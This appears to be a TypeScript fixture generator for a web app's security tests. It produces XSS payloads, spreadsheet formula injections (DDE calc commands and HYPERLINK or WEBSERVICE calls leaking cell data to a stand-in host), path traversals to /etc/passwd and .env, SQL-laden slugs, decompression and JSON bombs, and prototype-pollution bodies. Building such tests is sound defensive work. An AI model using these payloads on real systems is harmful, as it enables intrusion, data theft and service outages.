import { gzipSync } from 'node:zlib';

/** All ways to take one of each list, the last list turning fastest. */
function cross(...lists: readonly (readonly string[])[]): string[] {
  return lists.reduce<string[]>(
    (made, list) => made.flatMap((begun) => list.map((next) => begun + next)),
    [''],
  );
}

/** `count` of a list, spread over the whole of it; all different, or this throws. */
function spread(list: readonly string[], count: number): string[] {
  const all = [...new Set(list)];
  if (all.length < count) throw new Error(`${all.length} are fewer than ${count}.`);
  return Array.from({ length: count }, (_, i) => all[Math.floor((i * all.length) / count)] ?? '');
}

/** What ends the place where a page may show a text: an attribute, an element, a comment, a string. */
const ENDS = ['', '">', "'>", '</textarea>', '</title>', '</script>', '-->', ']]>', '`}', '\\"};'];

const MARKUP = [
  '<script>alert(1)</script>',
  '<ScRiPt/x>alert(1)</sCrIpT >',
  '<img src=x onerror=alert(1)>',
  '<image href=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<iframe src=javascript:alert(1)>',
  '<object data=javascript:alert(1)>',
  '<embed src=javascript:alert(1)>',
  '<body onload=alert(1)>',
  '<body onpageshow=alert(1)>',
  '<a href=javascript:alert(1)>x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<form action=javascript:alert(1)><button>x</button></form>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<style>@import "//elsewhere.example/x.css";</style>',
  '<link rel=stylesheet href=//elsewhere.example/x.css>',
  '<meta http-equiv=refresh content="0;url=//elsewhere.example">',
  '<base href=//elsewhere.example/>',
  '<math><mtext><table><mglyph><style><img src onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<div style="background:url(javascript:alert(1))">',
  '<p onmouseover=alert(1)>x</p>',
  '<dialog open onclose=alert(1)>',
  '<x onclick=alert(1) style=position:fixed;inset:0>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<%= alert(1) %>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '＜script＞alert(1)＜/script＞',
  '\u202e>tpircs/<)1(trela>tpircs<',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
];

/** 500 texts that a page must show as the letters that they are; none longer than 80. */
export function markupTexts(): string[] {
  return spread([...cross(ENDS, MARKUP), ...cross(['a ', 'b '], MARKUP)], 500);
}

const FIRST = ['=', '+', '-', '@', '\t=', '\r=', '\t', '\r', '=-', '@='];
const FORMULAS = [
  '1+1',
  'HYPERLINK("https://elsewhere.example?q="&A1,"x")',
  "cmd|' /C calc'!A0",
  'SUM(A1:A9)*cmd|"/c calc"!A1',
  'IMPORTXML("https://elsewhere.example","//a")',
  'WEBSERVICE("https://elsewhere.example/"&A1)',
  'DDE("cmd","/C calc","x")',
  '"x"&A1',
  'A1,"=1+1"',
  "rundll32|'url.dll,OpenURL calc'!A",
];

/** 100 cells that a spreadsheet would work out instead of showing them. */
export function formulaCells(): string[] {
  return spread(cross(FIRST, FORMULAS), 100);
}

const SLUG_PARTS = [
  '..',
  '/',
  '\\',
  '%2e%2e',
  '\0',
  ' ',
  'A',
  'ä',
  '_',
  '.',
  '-',
  "'",
  '"',
  ';',
  '\n',
  '',
];
const SLUG_ENDS = [
  '',
  'x',
  '-',
  '/etc/passwd',
  '/registry.db',
  '.sqlite',
  '--',
  'drop table chapter',
];

/** 200 short names that no chapter may have: each would be more than a word of a path or a query. */
export function badSlugs(): string[] {
  const isGood = (text: string): boolean => /^[a-z0-9][a-z0-9-]{1,38}[a-z0-9]$/.test(text);
  const texts = cross(SLUG_PARTS, ['', 'oak', 'x'.repeat(41)], SLUG_ENDS);
  return spread(
    texts.filter((text) => !isGood(text)),
    200,
  );
}

const UP = [
  '../',
  '..%2f',
  '%2e%2e/',
  '%2e%2e%2f',
  '..\\',
  '..%5c',
  '%252e%252e%252f',
  '....//',
  '.%00./',
  '..;/',
];
const FROM = ['/', '/assets/', '/v1/', '/v1/turfs/', '/.vite/', '//', '/desk/'];
const TO = ['canary.txt', 'registry.db', 'etc/passwd', '.env', 'data/canary.txt'];

/** 200 addresses that want a file which the server does not serve. */
export function badPaths(): string[] {
  return spread(cross(FROM, UP, ['', '../', '../../../'], TO), 200);
}

export interface Bomb {
  readonly name: string;
  readonly headers: Readonly<Record<string, string>>;
  readonly body: Buffer;
}

const JSON_TYPE = { 'content-type': 'application/json' };
const GZIP = { ...JSON_TYPE, 'content-encoding': 'gzip' };
const MIB = 1024 * 1024;

const plain = (name: string, text: string): Bomb => ({
  name,
  headers: JSON_TYPE,
  body: Buffer.from(text),
});
const packed = (name: string, body: Buffer): Bomb => ({ name, headers: GZIP, body });

/** Bodies made to cost more than they weigh: each is meant for any route that takes JSON. */
export function makeBombs(): Bomb[] {
  const zeros = gzipSync(Buffer.alloc(64 * MIB));
  const spaces = gzipSync(Buffer.alloc(32 * MIB, ' '));
  const nested = (open: string, close: string, depth: number): string =>
    open.repeat(depth) + close.repeat(depth);
  const ring = `[${'[0,0],'.repeat(1_000_000)}[0,0]]`;
  return [
    packed('64 MiB of zeros', zeros),
    packed('32 MiB of spaces', spaces),
    packed('packed twice', gzipSync(zeros)),
    packed('packed three times', gzipSync(gzipSync(zeros))),
    packed('half of a packing', zeros.subarray(0, zeros.length / 2)),
    packed('no packing', Buffer.from('{"a":1}')),
    packed('nothing packed', Buffer.alloc(0)),
    packed('one after another', Buffer.concat(Array.from({ length: 20 }, () => spaces))),
    packed('with a tail', Buffer.concat([gzipSync('{}'), Buffer.alloc(MIB, 'x')])),
    packed('depth, packed', gzipSync(nested('[', ']', 100_000))),
    plain('lists, 100,000 deep', nested('[', ']', 100_000)),
    plain('objects, 100,000 deep', `${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}`),
    plain('lists without an end', '['.repeat(100_000)),
    plain(
      'an outline of a million corners',
      `{"outline":{"type":"Polygon","coordinates":[${ring}]}}`,
    ),
    plain('100,000 fields', `{${Array.from({ length: 70_000 }, (_, i) => `"k${i}":1`).join(',')}}`),
    plain('one field 100,000 times', `{${'"a":1,'.repeat(100_000)}"a":1}`),
    plain('a number of 100,000 digits', `{"a":${'9'.repeat(100_000)}}`),
    plain('a prototype', '{"__proto__":{"polluted":1}}'),
    plain('an escaped prototype', '{"\\u005f\\u005fproto\\u005f\\u005f":{"polluted":1}}'),
    plain('a constructor', '{"constructor":{"prototype":{"polluted":1}}}'),
    plain('a deep prototype', '{"a":[{"__proto__":{"polluted":1}}]}'),
    plain('a text of 900 KiB', `{"name":"${'x'.repeat(900 * 1024)}"}`),
    plain('escapes without end', `{"name":"${'\\u0000'.repeat(100_000)}"}`),
    plain('half letters', `{"name":"${'\\ud800'.repeat(10_000)}"}`),
    plain('8 MiB', `"${'x'.repeat(8 * MIB)}"`),
  ];
}
